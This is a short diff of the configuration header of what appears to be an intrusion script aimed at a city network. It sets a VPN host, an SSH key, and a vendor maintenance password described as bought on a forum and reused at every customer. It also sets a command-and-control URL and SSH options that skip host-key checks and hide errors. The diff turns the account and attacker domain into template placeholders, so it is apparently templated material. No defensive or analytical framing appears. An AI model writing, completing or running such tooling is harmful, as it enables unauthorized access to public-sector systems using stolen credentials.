@@ -2,10 +2,10 @@
 OPS=/root/ops
 KEY=$OPS/id_ed25519
 VPN=vpn.city.kaede.example
-ACCOUNT=mis-maint
+ACCOUNT={{account}}
 # bought on a forum: the vendor's maintenance login, reused at every customer of the vendor
 PW='Midori@2021'
-C2=http://files.nightcloud.example:8080
+C2=http://{{attacker_domain}}:8080
 SSHO="-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -o ConnectTimeout=8"
 
 log() { echo "$(date -u +%FT%TZ) $*" >> "$OPS/op.log"; }
